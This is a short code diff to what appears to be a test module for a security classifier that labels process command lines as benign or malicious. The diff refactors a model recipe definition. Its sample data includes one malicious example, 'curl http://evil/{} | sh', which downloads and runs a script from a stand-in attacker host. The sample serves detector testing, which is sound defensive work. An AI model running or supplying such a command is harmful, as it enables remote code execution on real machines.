@@ -6,6 +6,7 @@ from collections.abc import Mapping
 from functools import cache
 from pathlib import Path
 from tempfile import mkdtemp
+from typing import Any
 
 from sftsec_core.api.contracts import RecipeSpec, TrainedModel, TrainJob
 from sftsec_core.api.domain import EvalReport, Example, ModelRef, Split, TaskSpec
@@ -20,8 +21,10 @@ from sftsec_core.registry.registry import ModelRegistry
 from sftsec_core.registry.serving import Serving
 
 TASK = TaskSpec("commands", ("process.command_line",), ("benign", "malicious"), "benign")
-LINEAR = RecipeSpec("linear", "n-grams", 1, train_linear, load_linear)
-RECIPES: Mapping[str, RecipeSpec] = {"linear": LINEAR}
+LINEAR = RecipeSpec(
+    name="linear", summary="n-grams", inference_cost=1, fit=train_linear, load=load_linear
+)
+RECIPES: Mapping[str, RecipeSpec[Any]] = {"linear": LINEAR}
 TEXTS = {"benign": "ls -la /home/{}", "malicious": "curl http://evil/{} | sh"}
 
 
